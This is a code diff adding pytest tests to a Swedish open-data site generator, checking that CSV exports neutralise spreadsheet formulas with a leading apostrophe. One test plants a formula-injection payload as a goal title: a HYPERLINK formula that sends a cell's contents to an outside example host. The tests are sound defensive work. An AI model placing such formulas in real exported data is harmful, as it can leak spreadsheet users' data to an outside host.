@@ -146,3 +146,50 @@ def test_repository_schemas_are_published_beside_the_data(followup_site: tuple[P
         assert published.read_bytes() == schema.read_bytes()
         assert f"data/schemas/{schema.name}" in html
     assert (out / "data/schemas/malbild-oppna-data.schema.json").is_file()
+
+
+def test_csv_cells_never_start_a_spreadsheet_formula(
+    content_copy: Path, make_settings: Any, tmp_path: Path
+) -> None:
+    """CSV injection: a text that a spreadsheet would run as a formula is written with an
+    apostrophe in front; numbers, negative ones too, stay numbers."""
+    from sitegen.pipeline import build
+    from sitegen.reporter import Reporter
+
+    goal = content_copy / "kommuner/kungsor/mal/boende-och-utemiljo-for-trivsel.yaml"
+    text = goal.read_text(encoding="utf-8")
+    hostile = '=HYPERLINK("https://example.org/?"&A1;"Klicka")'
+    text = text.replace(
+        "titel: 'Boende- och utemiljön är viktig för att skapa trivsel'",
+        "titel: '" + hostile.replace("'", "''") + "'",
+    )
+    goal.write_text(text, encoding="utf-8")
+    settings = make_settings(content_copy, pdf_reports=False)
+    build(settings, Reporter())
+    rows = list(csv.DictReader(io.StringIO((settings.out_dir / "data/mal.csv").read_text())))
+    row = next(r for r in rows if r["mal_id"] == "boende-och-utemiljo-for-trivsel")
+    assert row["titel"] == "'" + hostile
+    for r in rows:
+        for value in r.values():
+            assert not value.startswith(("=", "+", "@")), value
+
+
+@pytest.mark.parametrize(
+    ("cell", "written"),
+    [
+        ("=1+2", "'=1+2"),
+        ("+46 8 123", "'+46 8 123"),
+        ("-1+1", "'-1+1"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\tx", "'\tx"),
+        ("-3.5", "-3.5"),
+        ("+2", "+2"),
+        ("1e-3", "1e-3"),
+        ("Bostäder", "Bostäder"),
+        (-4, -4),
+    ],
+)
+def test_safe_cell(cell: Any, written: Any) -> None:
+    from sitegen.opendata.tables import safe_cell
+
+    assert safe_cell(cell) == written
